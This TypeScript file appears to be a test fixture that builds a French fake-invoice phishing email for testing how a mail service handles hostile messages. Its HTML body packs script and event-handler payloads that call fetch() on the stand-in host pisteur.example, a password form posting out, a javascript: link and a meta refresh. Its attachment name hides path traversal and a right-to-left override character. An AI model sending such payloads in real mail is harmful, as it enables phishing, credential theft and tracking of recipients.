import { DESK_ADDRESS } from './desk';

/** A mail that tries everything a mail can try with whoever reads it, beside a line that is meant to be read. */
export const hostileMail = (
  subject = 'Facture impayée',
  from = 'Service des impôts <escroc@ailleurs.example>',
): Buffer =>
  Buffer.from(
    [
      `From: =?utf-8?Q?Service_des_imp=C3=B4ts?= <${/<(.+)>/.exec(from)?.[1] ?? from}>`,
      `To: ${DESK_ADDRESS}`,
      `Subject: =?utf-8?B?${Buffer.from(subject).toString('base64')}?=`,
      'Date: Fri, 27 Nov 2026 10:00:00 +0100',
      `Message-ID: <${Math.random().toString(36).slice(2)}@ailleurs.example>`,
      'MIME-Version: 1.0',
      'Content-Type: multipart/mixed; boundary=part',
      '',
      '--part',
      'Content-Type: text/html; charset=utf-8',
      '',
      `<html><head><style>body{display:none} p{position:fixed;inset:0;background:url(https://pisteur.example/a.png)}</style>
<script>parent.document.title='volé'; fetch('https://pisteur.example/b')</script>
<base href="https://pisteur.example/"><meta http-equiv="refresh" content="0;url=https://pisteur.example/c"></head>
<body onload="fetch('https://pisteur.example/d')"><p>Votre compte sera coupé. <a href="javascript:alert(1)">Payez ici</a>.</p>
<img src="https://pisteur.example/e.png" onerror="fetch('https://pisteur.example/f')"><img src="/api/v1/me">
<form action="https://pisteur.example/g"><input name="motdepasse"><button>Payer</button></form>
<iframe src="https://pisteur.example/h"></iframe><svg onload="fetch('https://pisteur.example/i')"></svg>
<video autoplay src="https://pisteur.example/j"></video><link rel="stylesheet" href="https://pisteur.example/k.css">
<table><tr><td>Montant</td><td>1 240 €</td></tr></table></body></html>`,
      '--part',
      'Content-Type: application/pdf; name="../../facture\u202Efdp.pdf"',
      'Content-Disposition: attachment; filename="facture.pdf"',
      'Content-Transfer-Encoding: base64',
      '',
      Buffer.from('%PDF-1.7\nfacture').toString('base64'),
      '--part--',
      '',
    ].join('\r\n'),
  );
